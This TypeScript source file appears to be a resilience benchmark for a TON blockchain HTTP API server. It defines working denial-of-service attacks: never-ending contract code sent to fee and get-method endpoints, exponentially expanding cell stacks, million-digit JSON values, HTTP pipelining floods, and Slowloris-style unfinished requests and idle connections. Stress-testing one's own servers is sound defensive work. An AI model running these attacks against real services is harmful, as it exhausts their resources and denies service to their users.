import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { beginCell, type Cell } from '@ton/core';
import { LOOPER, LOOPING_CODE } from './content.ts';
import { READ_ATTACKS } from './read-attacks.ts';
import { SOCKET_ATTACKS } from './socket-attacks.ts';
import { WEBHOOK_ATTACKS } from './webhook-attacks.ts';

/** How a request of an attacker ended: with a status, without an answer, or that its connection was closed. */
export type Outcome = number | 'error' | 'closed';

/** What an attacker knows. */
export interface Attacker {
  readonly host: string;
  readonly port: number;
  /** Its own address; each attacker has one. */
  readonly localAddress: string;
  /** Whether the attack goes on. */
  readonly isRunning: () => boolean;
  readonly count: (outcome: Outcome) => void;
}

/** A way to use up a server, without an API key or with free ones. */
export interface Attack {
  readonly name: string;
  readonly what: string;
  /** Whether the victim has a webhook, too, whose events are watched. */
  readonly hasEvents?: boolean;
  /** Of the server, where it is not the usual limit. */
  readonly openFiles?: number;
  /** True for what is no attack: its row says what the machine itself does. */
  readonly isBaseline?: boolean;
  /** Until the attack is in full swing. */
  readonly leadMs?: number;
  readonly run: (attacker: Attacker) => Promise<void>;
}

interface Call {
  readonly method?: 'GET' | 'POST';
  readonly path: string;
  readonly body?: string;
}

const ELECTOR = 'Ef8zMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzM0vF';
const NOBODY = 'EQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAM9c';
/** The anonymous rate limit is one per second; timers are not exact. */
const EVERY_MS = 1050;

const feeLoop = json('/api/v2/estimateFee', {
  address: ELECTOR,
  body: base64(beginCell().endCell()),
  init_code: base64(LOOPING_CODE),
  init_data: base64(beginCell().endCell()),
  ignore_chksig: true,
});

const methodLoop = json('/api/v2/runGetMethod', {
  address: LOOPER.address.toString(),
  method: 'loop',
  stack: [],
});

/** Cells whose references repeat: few bytes in a bag of cells, 2 to the power of `depth` when they are written out. */
const explodingStack = json('/api/v2/runGetMethod', {
  address: NOBODY,
  method: 'x',
  stack: Array.from({ length: 5 }, () => ['tvm.Cell', base64(repeatedCell(14))]),
});

/** All attacks of the benchmark. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'cpu-only',
    what: 'no attack: a program that takes a fifth of a processor and sends nothing',
    isBaseline: true,
    run: useProcessor,
  },
  {
    name: 'fee-loop',
    what: '`estimateFee` for the elector with code that never ends, 1 per second',
    run: (attacker) => repeat(attacker, () => feeLoop),
  },
  {
    name: 'method-loop',
    what: '`runGetMethod` of a contract that uses 4 million gas, 1 per second',
    run: (attacker) => repeat(attacker, () => methodLoop),
  },
  {
    name: 'big-answer',
    what: '`v3/traces?limit=1000`, 1 per second',
    run: (attacker) => repeat(attacker, tracesPage),
  },
  {
    name: 'big-answer-gone',
    what: 'the same, and the connection is closed after 100 ms',
    run: (attacker) => repeat(attacker, tracesPage, 100),
  },
  {
    name: 'exploding-stack',
    what: '`runGetMethod` with five cells of repeated references, 1 per second',
    run: (attacker) => repeat(attacker, () => explodingStack),
  },
  {
    name: 'huge-id',
    what: 'JSON-RPC with an id of a million digits, 1 per second',
    run: (attacker) => {
      const body = `{"jsonrpc":"2.0","id":${'9'.repeat(1_000_000)},"method":"getMasterchainInfo","params":{}}`;
      return repeat(attacker, () => ({ method: 'POST', path: '/api/v2/jsonRPC', body }));
    },
  },
  {
    name: 'many-keys',
    what: '`v3/decode` with 300 000 keys, 1 per second',
    run: (attacker) => {
      const body = `{${Array.from({ length: 300_000 }, (_, i) => `"k${i}":1`).join(',')}}`;
      return repeat(attacker, () => ({ method: 'POST', path: '/api/v3/decode', body }));
    },
  },
  {
    name: 'huge-number',
    what: '`runGetMethod` with a number of four million digits, 1 per second',
    run: (attacker) => {
      const body = `{"address":"${NOBODY}","method":"x","stack":[["num",${'9'.repeat(4_000_000)}]]}`;
      return repeat(attacker, () => ({ method: 'POST', path: '/api/v2/runGetMethod', body }));
    },
  },
  {
    name: 'metrics',
    what: '`/metrics` over and over, 4 at a time',
    run: (attacker) => flood(attacker, '/metrics', 4),
  },
  {
    name: 'pipelined',
    what: '1500 requests for `openapi.json` at once on one connection, again when answered',
    run: (attacker) => pipeline(attacker, '/api/v2/openapi.json', 1500),
  },
  {
    name: 'idle-connections',
    what: '1500 connections that send nothing, at a limit of 4096 open files',
    run: (attacker) => holdConnections(attacker, 1500, ''),
  },
  {
    name: 'unfinished-heads',
    what: '200 request heads of 1 MB that never end',
    run: (attacker) =>
      holdConnections(
        attacker,
        200,
        `GET /api/v3/transactions?account=${'0'.repeat(1_000_000)} HTTP/1.1\r\nHost: x\r\n`,
      ),
  },
  {
    name: 'unfinished-bodies',
    what: '200 request bodies of 1 MB that never end',
    run: (attacker) =>
      holdConnections(
        attacker,
        200,
        `POST /api/v2/sendBoc HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000001\r\n\r\n${' '.repeat(1_000_000)}`,
      ),
  },
  ...SOCKET_ATTACKS,
  ...READ_ATTACKS,
  ...WEBHOOK_ATTACKS,
];

/** What an attacker takes of the machine beside what the server does for it. */
async function useProcessor({ isRunning }: Attacker): Promise<void> {
  while (isRunning()) {
    const untilMs = performance.now() + 2;
    while (performance.now() < untilMs);
    await sleep(8);
  }
}

let page = 0;
function tracesPage(): Call {
  page += 1;
  return { path: `/api/v3/traces?limit=1000&offset=${page}` };
}

function json(path: string, body: object): Call {
  return { method: 'POST', path, body: JSON.stringify(body) };
}

function base64(cell: Cell): string {
  return cell.toBoc().toString('base64');
}

function repeatedCell(depth: number): Cell {
  let cell = beginCell().storeUint(1, 8).endCell();
  for (let i = 0; i < depth; i++) cell = beginCell().storeRef(cell).storeRef(cell).endCell();
  return cell;
}

/** Sends a request every second, whether or not the one before was answered; may leave before the answer. */
async function repeat(attacker: Attacker, next: () => Call, leaveAfterMs?: number): Promise<void> {
  const agent = new Agent({ keepAlive: true });
  while (attacker.isRunning()) {
    void send(attacker, next(), agent, leaveAfterMs);
    await sleep(EVERY_MS);
  }
  agent.destroy();
}

/** Sends the next request when one is answered. */
async function flood(attacker: Attacker, path: string, atOnce: number): Promise<void> {
  const agent = new Agent({ keepAlive: true });
  const loop = async (): Promise<void> => {
    // A refusal costs the server little; asking for it in a tight loop would only load the client.
    while (attacker.isRunning()) if ((await send(attacker, { path }, agent)) !== 200) await sleep(10);
  };
  await Promise.all(Array.from({ length: atOnce }, loop));
  agent.destroy();
}

function send(
  { host, port, localAddress, count }: Attacker,
  { method = 'GET', path, body }: Call,
  agent: Agent,
  leaveAfterMs?: number,
): Promise<number | 'error'> {
  return new Promise((resolve) => {
    const headers = body === undefined ? {} : { 'content-type': 'application/json' };
    const sent = request({ host, port, localAddress, method, path, headers, agent }, (response) => {
      response.resume();
      response.on('error', () => done('error'));
      response.on('end', () => done(response.statusCode!));
    });
    let isDone = false;
    const done = (outcome: number | 'error'): void => {
      if (isDone) return;
      isDone = true;
      count(outcome);
      resolve(outcome);
    };
    sent.on('error', () => done('error'));
    if (leaveAfterMs !== undefined) setTimeout(() => sent.destroy(), leaveAfterMs);
    sent.end(body);
  });
}

/** Sends many requests on one connection without waiting, and reads the answers. */
async function pipeline(attacker: Attacker, path: string, requests: number): Promise<void> {
  const { host, port, localAddress, isRunning, count } = attacker;
  const text = `GET ${path} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(requests);
  while (isRunning()) {
    const socket = connect({ host, port, localAddress });
    socket.on('data', () => {});
    socket.on('error', () => {});
    socket.write(text);
    await Promise.race([closed(socket).then(() => count('closed')), stopped(isRunning), sleep(5000)]);
    socket.destroy();
    await sleep(100);
  }
}

/** New connections of an attacker for those that were closed; more would be another attack. */
const REOPENED_AT_ONCE = 10;

/** Opens connections, sends a text on each and keeps them; opens new ones for those that were closed. */
async function holdConnections(attacker: Attacker, wanted: number, text: string): Promise<void> {
  const { host, port, localAddress, isRunning, count } = attacker;
  const open = new Set<Socket>();
  for (let missing = wanted; isRunning(); missing = Math.min(REOPENED_AT_ONCE, wanted - open.size)) {
    for (let i = 0; i < missing; i++) {
      const socket = connect({ host, port, localAddress });
      open.add(socket);
      socket.on('data', () => {});
      socket.on('error', () => {});
      socket.once('close', () => {
        open.delete(socket);
        if (isRunning()) count('closed');
      });
      socket.write(text);
    }
    await sleep(EVERY_MS);
  }
  for (const socket of open) socket.destroy();
}

function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => socket.once('close', () => resolve()));
}

async function stopped(isRunning: () => boolean): Promise<void> {
  while (isRunning()) await sleep(100);
}
